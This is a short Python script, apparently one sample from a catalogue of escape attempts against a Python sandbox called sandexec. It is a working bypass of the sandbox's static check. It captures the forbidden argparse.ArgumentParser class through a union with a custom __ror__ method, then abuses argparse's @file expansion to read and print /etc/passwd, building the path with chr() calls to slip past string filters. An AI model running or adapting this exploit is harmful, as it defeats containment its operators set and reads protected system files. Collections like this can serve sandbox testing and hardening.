# source: sandexec README, "The static check", (ArgumentParser as a value is refused, a union is allowed); Python data model: argparse.ArgumentParser | box calls box.__ror__; Lib/argparse.py 8th positional = fromfile_prefix_chars
# family: class machinery: a refused library class in a union hands itself to the script's __ror__ (ArgumentParser)
# goal: reads /etc/passwd through argparse @file expansion
import argparse


class Box:
    def __init__(self):
        self.got = None

    def __ror__(self, other):
        self.got = other
        return self


box = Box()
u = argparse.ArgumentParser | box
K = box.got
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
